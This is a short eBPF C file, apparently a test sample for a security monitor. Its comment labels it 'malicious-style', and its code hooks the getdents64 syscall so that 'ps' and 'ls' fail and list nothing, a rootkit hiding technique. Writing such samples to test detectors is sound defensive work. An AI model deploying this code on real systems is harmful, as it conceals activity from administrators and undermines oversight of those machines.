// SPDX-License-Identifier: GPL-2.0
/*
 * MALICIOUS-STYLE, error injection as a rootkit uses it: a kprobe on the
 * getdents64 syscall that makes it fail with ENOENT for `ps` and `ls` via
 * bpf_override_return, so they list nothing.
 * Does not load on kernels without CONFIG_BPF_KPROBE_OVERRIDE (this host);
 * where it loads it still needs a function on the error-injection list.
 */
#include "sentry_test.h"

char LICENSE[] SEC("license") = "GPL";

#define ENOENT 2

SEC("kprobe/__x64_sys_getdents64")
int block_getdents(struct pt_regs *ctx)
{
	char comm[TASK_COMM_LEN] = {};

	bpf_get_current_comm(comm, sizeof(comm));
	if ((comm[0] == 'p' && comm[1] == 's' && comm[2] == 0) ||
	    (comm[0] == 'l' && comm[1] == 's' && comm[2] == 0))
		bpf_override_return(ctx, -ENOENT);
	return 0;
}
